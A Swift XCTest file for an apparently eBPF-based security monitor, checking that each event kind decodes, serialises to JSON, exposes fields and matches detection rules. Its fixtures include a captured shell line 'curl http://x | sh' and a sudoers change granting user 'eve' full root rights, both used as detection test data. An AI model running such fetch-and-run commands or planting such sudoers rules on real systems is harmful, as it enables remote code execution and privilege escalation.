import CVigilABI
import Foundation
import VigilEvents
import VigilRules
import XCTest

/// Walks every event kind of bpf/syscalls/kinds.table through every piece a kind needs: a record
/// of its ABI struct decodes to it, its JSON parses and reads back as the same kind, the fields
/// the catalogue gives it read a value, the table line names it, and a rule on its evt.type
/// matches it. A kind added to the table without one of these fails here (and one without a
/// sample record below fails to compile: the switch is exhaustive).
final class EventKindWalkTests: XCTestCase {
    /// A record of `kind` as its sensor writes it: the ABI struct, then its variable part; nil
    /// for a kind no record carries (made in userspace: `sample`).
    static func record(_ kind: EventKind) -> [UInt8]? {
        func bytes<T>(_ fixed: T, _ data: [UInt8]) -> [UInt8] {
            var out = withUnsafeBytes(of: fixed) { Array($0) }
            out += data
            out.withUnsafeMutableBytes { raw in
                var header = raw.loadUnaligned(as: vigil_event_header.self)
                header.kind = kind.descriptor.abi
                header.size = UInt32(raw.count)
                header.ts_ns = 5_000_000_000
                header.pid = 4242; header.tid = 4242; header.ppid = 1; header.uid = 1000; header.gid = 1000
                withUnsafeMutableBytes(of: &header.comm) { comm in for (i, b) in "walker".utf8.enumerated() { comm[i] = b } }
                raw.storeBytes(of: header, as: vigil_event_header.self)
            }
            return out
        }
        switch kind {
        case .exec:
            var e = vigil_exec_event()
            let filename = Array("/usr/bin/walker".utf8), args = Array("walker\0--all\0".utf8), cwd = Array("/tmp".utf8)
            e.filename_len = UInt16(filename.count); e.args_len = UInt16(args.count); e.cwd_len = UInt16(cwd.count)
            e.loginuid = 1000; e.start_time_ns = 4_000_000_000
            return bytes(e, filename + args + cwd)
        case .fork:
            var e = vigil_fork_event()
            e.child_pid = 4243; e.child_tid = 4243; e.child_start_time_ns = 5_000_000_000
            return bytes(e, [])
        case .exit:
            var e = vigil_exit_event()
            e.exit_code = 3 << 8; e.start_time_ns = 4_000_000_000; e.duration_ns = 1_000_000_000
            return bytes(e, [])
        case .open:
            var e = vigil_open_event()
            let name = Array("/etc/walker.conf".utf8)
            e.name_len = UInt16(name.count); e.result = 3; e.dirfd = -100; e.syscall = UInt32(VIGIL_OPEN_OPENAT.rawValue)
            return bytes(e, name)
        case .conn:
            var e = vigil_conn_event()
            e.tuple = walkTuple()
            e.phase = UInt8(VIGIL_CONN_CONNECT.rawValue); e.tuple.state = 1; e.sock = 0xffff_8880_0000_1000; e.start_ns = 4_000_000_000
            return bytes(e, [])
        case .tcpdrop:
            var e = vigil_tcpdrop_event()
            e.tuple = walkTuple()
            e.reason = 3; e.tcp_flags = 0x02
            return bytes(e, [])
        case .syscall:
            var e = vigil_syscall_event()
            e.nr = UInt32(Syscalls.named("getpid")?.number() ?? 39); e.ret = 4242; e.latency_ns = 100
            return bytes(e, [])
        case .shell:
            var e = vigil_shell_event()
            let line = Array("curl http://x | sh".utf8)
            withUnsafeMutableBytes(of: &e.line) { for (i, b) in line.enumerated() { $0[i] = b } }
            withUnsafeMutableBytes(of: &e.tty) { for (i, b) in "pts3".utf8.enumerated() { $0[i] = b } }
            e.line_len = UInt16(line.count); e.sid = 4240; e.tty_major = 136; e.tty_minor = 3
            return bytes(e, [])
        case .fim, .program:
            return nil
        }
    }

    /// An event of a kind made in userspace, as its maker makes it (the header of the syscall
    /// that caused it).
    static func sample(_ kind: EventKind) -> Event? {
        switch kind {
        case .fim:
            let fim = Payload.FIM(change: "modified", path: "/etc/sudoers", profile: "/etc/sudoers", sha256Old: "aa", sha256: "bb",
                                  size: 40, mode: 0o100440, uid: 0, gid: 0, diff: ["sudo rule added: eve ALL=(ALL) ALL"],
                                  unified: ["@@ -1 +1,2 @@", " root ALL=(ALL) ALL", "+eve ALL=(ALL) ALL"],
                                  sudoRulesAdded: ["eve ALL=(ALL) ALL"], summary: "/etc/sudoers modified: sudo rule added: eve ALL=(ALL) ALL")
            return Event(bootTimeNs: 5_000_000_000, timeNs: 5_000_000_000, cgroupID: 0, pid: 4242, tid: 4242, ppid: 1, uid: 1000, gid: 1000,
                         cpu: 0, mountNamespace: 0, pidNamespace: 0, comm: "walker", payload: .fim(fim))
        case .program:
            // A record of a program bundle named `walk` (its schema is registered while it is loaded).
            let schema = ProgramSchema(name: "walk", structName: "walk_event", size: 24,
                                       fields: [.init(name: "pid", offset: 0, decoding: .integer(size: 4, signed: false)),
                                                .init(name: "who", offset: 8, decoding: .string(size: 16))], pidField: "pid")
            ProgramSchema.register(schema)
            var record = [UInt8](repeating: 0, count: 24)
            record[0] = 0x92; record[1] = 0x10  // 4242
            for (i, b) in "walker".utf8.enumerated() { record[8 + i] = b }
            let values = try? XCTUnwrap(record.withUnsafeBytes { schema.decode($0) })
            return Event(bootTimeNs: 5_000_000_000, timeNs: 5_000_000_000, cgroupID: 0, pid: 4242, tid: 4242, ppid: 1, uid: 1000, gid: 1000,
                         cpu: 0, mountNamespace: 0, pidNamespace: 0, comm: "walker", payload: .program(.init(schema: schema, values: values ?? [])))
        default:
            return nil
        }
    }

    /// 10.0.0.1:40000 -> 10.0.0.2:80 over TCP/IPv4.
    static func walkTuple() -> vigil_socket_tuple {
        var t = vigil_socket_tuple()
        t.family = 2; t.type = 1; t.protocol = 6; t.lport = 40000; t.rport = 80
        withUnsafeMutableBytes(of: &t.laddr) { $0[0] = 10; $0[3] = 1 }
        withUnsafeMutableBytes(of: &t.raddr) { $0[0] = 10; $0[3] = 2 }
        return t
    }

    /// The evt.type a rule names to catch `kind`'s sample (a `record` kind's sample is its first
    /// type, but an open's is openat).
    static func eventType(_ kind: EventKind) -> String {
        kind.descriptor.eventType == .syscall ? "getpid" : kind == .open ? "openat" : kind == .program ? "walk" : kind.descriptor.types[0]
    }

    func testEveryKindHasEveryPiece() throws {
        XCTAssertEqual(EventKindDescriptor.all.map(\.kind), EventKind.allCases, "one descriptor per kind, in index order")
        _ = Self.sample(.program)  // registers the bundle `walk` before the rules compile (evt.type = walk)
        var rules = ""
        for kind in EventKind.allCases {
            rules += """
            - rule: walk \(kind.rawValue)
              desc: the walk's rule for \(kind.rawValue)
              condition: evt.type = \(Self.eventType(kind)) and evt.kind = \(kind.rawValue)
              output: "%evt.type by %proc.name"
              priority: NOTICE

            """
        }
        let ruleSet = try RuleSet(files: [("walk.yaml", RuleFiles.items(text: rules, file: "walk.yaml"))])
        var decoder = EventDecoder(bootToEpochNs: 0)
        for kind in EventKind.allCases {
            let d = kind.descriptor
            XCTAssertEqual(kind.index, EventKind.allCases.firstIndex(of: kind), "\(kind): index is its position")
            XCTAssertEqual(EventKind(index: kind.index), kind)
            XCTAssertEqual(EventKind(abi: d.abi), kind, "\(kind): its ABI value names it")
            let event: Event
            if let record = Self.record(kind) {
                XCTAssertTrue(d.hasRecord, "\(kind): a sample record of a kind the table gives none")
                XCTAssertGreaterThanOrEqual(record.count, d.recordSize, "\(kind): \(d.record) is the record")
                // Decode.
                let decoded = record.withUnsafeBytes { decoder.decode($0) }
                event = try XCTUnwrap(decoded, "\(kind): its record does not decode")
                // A record one byte short of its struct is refused.
                XCTAssertNil(Array(record.prefix(d.recordSize - 1)).withUnsafeBytes { decoder.decode($0) }, "\(kind): a short record decodes")
            } else {
                // Made in userspace: no record, and a record with its ABI value decodes to nothing.
                XCTAssertFalse(d.hasRecord, "\(kind): the table names record \(d.record) but the walk has no sample of it")
                XCTAssertFalse(EventKindDescriptor.ownCapture.contains(kind), "\(kind): no capture makes it")
                event = try XCTUnwrap(Self.sample(kind), "\(kind): neither a record nor a sample event")
                var header = vigil_event_header()
                header.kind = d.abi; header.size = UInt32(MemoryLayout<vigil_event_header>.size)
                XCTAssertNil(withUnsafeBytes(of: header) { decoder.decode($0) }, "\(kind): a bare header of its ABI value decodes")
            }
            XCTAssertEqual(event.kind, kind)
            XCTAssertEqual(event.pid, 4242)
            XCTAssertEqual(event.comm, "walker")
            // JSON: one object, evt.kind and evt.type, and it reads back as the same kind.
            let line = EventFormat.json(event)
            let object = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], "\(kind): \(line)")
            XCTAssertEqual(object["evt.kind"] as? String, kind.rawValue)
            XCTAssertEqual(object["evt.type"] as? String, Self.eventType(kind), "\(kind): evt.type in JSON")
            XCTAssertEqual(try EventJSON.event(line).kind, kind, "\(kind): JSON reads back as another kind")
            // Fields: the kind has fields of its own, and each reads a value from the sample.
            let own = d.fields.filter { !$0.kinds.isEmpty && !$0.takesArgument }
            XCTAssertFalse(own.isEmpty, "\(kind): no field of the catalogue names this kind")
            XCTAssertTrue(own.contains { $0.extract(event, nil) != nil }, "\(kind): none of its own fields reads a value")
            XCTAssertEqual(Fields.named("evt.type")?.extract(event, nil), .string(ByteString(Self.eventType(kind))))
            for field in d.fields where field.kinds.contains(kind) && !field.takesArgument {
                // evt.args is written as the `args` array by default (JSONArguments.standard).
                let key = field.name == "evt.args" && JSONArguments.standard == .array ? "args" : field.name
                XCTAssertNotNil(object[key] ?? (field.extract(event, nil) == nil ? "absent" : nil),
                                "\(kind): \(field.name) reads a value but is not in the JSON")
            }
            // Formatting: the table line names the event.
            XCTAssertTrue(EventFormat.tableRow(event).contains(kind == .syscall ? "getpid" : kind == .program ? "walk" : kind.rawValue), "\(kind): \(EventFormat.tableRow(event))")
            // A rule on its evt.type matches it, and only the rule for its kind.
            XCTAssertEqual(ruleSet.matches(event).map(\.rule.name), ["walk \(kind.rawValue)"], "\(kind): rules matched")
            XCTAssertTrue(ruleSet.pushdown.kinds.contains(kind), "\(kind): the pushdown asks for it")
        }
    }

    func testAConnectionsPhaseIsItsEvtType() throws {
        let rules = try RuleSet(files: [("c.yaml", RuleFiles.items(text: """
            - rule: closed
              desc: a connection closed with data sent
              condition: evt.type = tcp_close and conn.bytes_sent > 10 and fd.sport = 80
              output: "%fd.name %conn.bytes_sent"
              priority: NOTICE
            - rule: opened
              desc: a connection opened
              condition: evt.type in (tcp_connect, tcp_accept)
              output: "%fd.name"
              priority: NOTICE
            """, file: "c.yaml"))])
        var decoder = EventDecoder(bootToEpochNs: 0)
        var record = try XCTUnwrap(Self.record(.conn))
        let connect = try XCTUnwrap(record.withUnsafeBytes { decoder.decode($0) })
        XCTAssertEqual(rules.matches(connect).map(\.rule.name), ["opened"])
        record.withUnsafeMutableBytes { raw in
            var e = raw.loadUnaligned(as: vigil_conn_event.self)
            e.phase = UInt8(VIGIL_CONN_CLOSE.rawValue); e.bytes_sent = 11; e.duration_ns = 5
            raw.storeBytes(of: e, as: vigil_conn_event.self)
        }
        let close = try XCTUnwrap(record.withUnsafeBytes { decoder.decode($0) })
        XCTAssertEqual(Fields.named("evt.type")?.extract(close, nil), .string("tcp_close"))
        XCTAssertEqual(rules.matches(close).map(\.rule.name), ["closed"])
        XCTAssertEqual(rules.pushdown.kinds, [.conn], "both rules need the conn sensor alone")
    }

    func testKindSetsHoldEveryKindAsBits() {
        var set = KindSet()
        XCTAssertTrue(set.isEmpty)
        for kind in EventKind.allCases {
            XCTAssertFalse(set.contains(kind))
            XCTAssertTrue(set.insert(kind).inserted)
            XCTAssertTrue(set.contains(kind))
        }
        XCTAssertEqual(set, KindSet.all)
        XCTAssertEqual(set.count, EventKind.allCases.count)
        XCTAssertEqual(Array(set), EventKind.allCases)
        XCTAssertEqual(set.remove(.open), .open)
        XCTAssertNil(set.remove(.open))
        XCTAssertEqual(set.union([.open]), KindSet.all)
        XCTAssertEqual(KindSet([.exec, .open]).intersection([.open, .syscall]), [.open])
        XCTAssertEqual(KindSet([.exec]).asSet, [.exec])
    }

    func testSyscallNamesComeFromTheKindsTable() {
        // The names the rules and `vigil trace` use for the kinds' own syscalls are the table's.
        XCTAssertEqual(RuleSet.dedicatedSyscalls[.exec], ["execve", "execveat"])
        XCTAssertEqual(RuleSet.dedicatedSyscalls[.open], ["open", "openat", "openat2"])
        XCTAssertNil(RuleSet.dedicatedSyscalls[.exit], "exit events are procexit, not the exit syscalls")
        XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "proc"), [.exec, .fork, .exit, .shell])
        XCTAssertEqual(EventKindDescriptor.ownCapture, [.exec, .fork, .exit, .open, .conn, .tcpdrop, .shell])
        XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "net"), [.conn, .tcpdrop])
        XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "fs"), [.open], "fim events are made in userspace, not captured")
        for kind in EventKind.allCases {
            for name in kind.descriptor.syscalls { XCTAssertNotNil(Syscalls.named(name), "\(kind): \(name) is not in the syscall table") }
        }
    }
}
